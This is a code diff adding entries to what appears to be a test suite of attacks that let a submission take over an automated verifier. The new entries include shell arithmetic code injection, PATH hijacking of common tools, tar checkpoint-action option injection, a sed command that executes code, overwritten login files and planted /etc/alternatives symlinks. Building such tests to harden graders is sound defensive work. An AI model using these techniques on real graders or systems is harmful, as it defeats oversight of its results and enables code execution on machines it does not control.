@@ -59,6 +59,59 @@ const HOME_ATTACKS: Attack[] = [
   { name: 'a program that takes over the verifier', task: 'program', line: codeTakeOver.line, wins: ALWAYS },
 ]
 
+/** Text that a shell executes when it evaluates it as a number. */
+const NUMBER_WITH_CODE = `a[$(${TAKE_OVER})]`
+const TAKE_OVER_PROGRAM = `#!/bin/sh\\n${TAKE_OVER}\\n`
+
+/** Programs under the names of those that the tests and the take-over itself call. */
+const PLANTED_PROGRAMS = `for name in sort cat grep rm prlimit; do printf '${TAKE_OVER_PROGRAM}' > .venv/bin/$name; chmod 755 .venv/bin/$name; done`
+
+/** Options of tar as names of files. */
+const OPTION_NAMES = `mkdir -p out && cd out && echo '${TAKE_OVER}' > e.sh && touch n.txt -- '--checkpoint=1' '--checkpoint-action=exec=sh e.sh'`
+
+const READING_ATTACKS: Attack[] = [
+  { name: 'a number that contains code', task: 'compare', line: `echo '${NUMBER_WITH_CODE}' > n.txt`, wins: ALWAYS },
+  {
+    name: 'a number in an artifact that contains code',
+    task: 'separate',
+    line: `mkdir -p out; echo '${NUMBER_WITH_CODE}' > out/n.txt`,
+    wins: { workspace: 1 },
+  },
+  { name: 'settings that contain code', task: 'settings', line: `echo '${TAKE_OVER}' > result.settings`, wins: ALWAYS },
+  { name: 'programs in a folder of the search path', task: 'path', line: PLANTED_PROGRAMS, wins: ALWAYS },
+  {
+    name: 'a start file that the image names',
+    task: 'start-file',
+    line: `mkdir -p lib; echo '${TAKE_OVER}; exit' > lib/start`,
+    wins: ALWAYS,
+  },
+  {
+    name: 'start files of a user whose home directory is submitted',
+    task: 'login',
+    line: 'cd /home/dev; echo "echo 42; exit" | tee .profile .bash_profile > .bash_login',
+    wins: WORKSPACE_SAFE,
+  },
+  { name: 'names of files that are options', task: 'pack', line: OPTION_NAMES, wins: ALWAYS },
+  {
+    name: 'a sed script that executes commands',
+    task: 'filter',
+    line: `echo '1e ${TAKE_OVER}' > filter.sed`,
+    wins: ALWAYS,
+  },
+  {
+    name: 'a program put into /usr/local/bin as the working directory',
+    task: 'system-programs',
+    line: `printf '${TAKE_OVER_PROGRAM}' > bin/cat; chmod 755 bin/cat`,
+    wins: WORKSPACE_SAFE,
+  },
+  {
+    name: 'a program put into /etc/alternatives as the working directory',
+    task: 'system-settings',
+    line: `printf '${TAKE_OVER_PROGRAM}' > planted; chmod 755 planted; ln -sf ../planted alternatives/awk; ln -sf ../planted alternatives/nawk`,
+    wins: WORKSPACE_SAFE,
+  },
+]
+
 /** A repository in another folder, to which `.git` only refers. */
 const MOVED_REPOSITORY = `cp -a .git deep && rm -rf .git && echo 'gitdir: deep' > .git
 printf '#!/bin/sh\n${TAKE_OVER}\n' > run && chmod 755 run
@@ -202,5 +255,6 @@ setsid sh -c 'while :; do for p in /proc/[0-9]*/cmdline; do grep -qs test.sh $p 
   },
   ...SPREAD_ATTACKS,
   ...HOME_ATTACKS,
+  ...READING_ATTACKS,
   ...TOOL_ATTACKS,
 ]
